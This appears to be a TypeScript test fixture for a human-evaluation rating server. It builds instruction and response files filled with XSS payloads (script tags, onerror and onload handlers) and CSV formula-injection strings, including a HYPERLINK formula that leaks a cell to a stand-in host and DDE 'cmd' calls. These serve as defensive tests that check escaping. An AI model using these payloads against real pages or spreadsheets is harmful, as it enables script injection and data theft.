/** Small rating databases for the human-eval tests: instructions and responses full of markup that must render as text. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { humanEvalSection } from '../../ts/config/sections/human-eval.js';
import { type ServeHumanEvalOptions, serveHumanEval, servingSettings } from '../../ts/eval/human/commands.js';
import type { RatingServer } from '../../ts/eval/human/server.js';

/** Text that would run script or break the page if it were rendered unescaped. */
export const HOSTILE_TEXTS = [
  '<script>alert("pwned")</script>',
  '<img src=x onerror="alert(1)">',
  '"><svg onload=alert(2)>',
  "</div></section><script>document.title='owned'</script>",
] as const;

/** Instruction ids that a spreadsheet would run as formulas if a CSV export wrote them verbatim. */
export const FORMULA_IDS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

export interface Fixture {
  dir: string;
  instructionsFile: string;
  /** `name=path` arguments, as given to `human-eval serve --runs`. */
  runs: string[];
  /** The response text of each system to each instruction id. */
  responses: Record<string, Record<string, string>>;
  instructionIds: string[];
}

function writeJsonl(file: string, rows: unknown[]): void {
  writeFileSync(file, `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`);
}

export interface FixtureOptions {
  /** The id of instruction `i` (default `task_i`). */
  id?: (i: number) => string;
  /** Rewrites each text of instruction `i` (default: keeps it); "echo" answers with the rewritten golden output. */
  text?: (text: string, i: number, field: 'instruction' | 'input' | 'output' | 'markup') => string;
}

/** `count` instructions answered by two systems: "echo" repeats the golden output, "markup" answers with markup. */
export function ratingFixture(count = 3, options: FixtureOptions = {}): Fixture {
  const { id = (i: number) => `task_${i}`, text = (t: string) => t } = options;
  const dir = mkdtempSync(join(tmpdir(), 'refine-af-human-'));
  const instructions = Array.from({ length: count }, (_, i) => ({
    id: id(i),
    motivation_app: 'Tests',
    instruction: text(`Instruction ${i}: explain ${HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]}`, i, 'instruction'),
    instances: [
      {
        input: text(i % 2 === 0 ? `input ${i} ${HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length]}` : '', i, 'input'),
        output: text(`golden output ${i} & more`, i, 'output'),
      },
    ],
  }));
  const responses: Record<string, Record<string, string>> = { echo: {}, markup: {} };
  for (const [i, instruction] of instructions.entries()) {
    (responses.echo as Record<string, string>)[instruction.id] = instruction.instances[0]!.output;
    (responses.markup as Record<string, string>)[instruction.id] = text(
      `response ${i} ${HOSTILE_TEXTS[(i + 2) % HOSTILE_TEXTS.length]}`,
      i,
      'markup',
    );
  }
  const instructionsFile = join(dir, 'instructions.jsonl');
  writeJsonl(instructionsFile, instructions);
  const runs = Object.entries(responses).map(([system, byId]) => {
    const file = join(dir, `${system}.jsonl`);
    writeJsonl(
      file,
      Object.entries(byId).map(([id, response]) => ({ id, response })),
    );
    return `${system}=${file}`;
  });
  return { dir, instructionsFile, runs, responses, instructionIds: instructions.map((i) => i.id) };
}

/** The config's default serving settings, on 127.0.0.1 and a free port. */
export const SERVING = { ...servingSettings(humanEvalSection.parse({})), host: '127.0.0.1', port: 0 };

/** Serve the fixture's runs from `db` with the default settings but those given. */
export function serveFixture(fixture: Fixture, db: string, settings: Partial<ServeHumanEvalOptions> = {}): Promise<RatingServer> {
  return serveHumanEval({ ...SERVING, db, runs: fixture.runs, instructions: fixture.instructionsFile, ...settings });
}
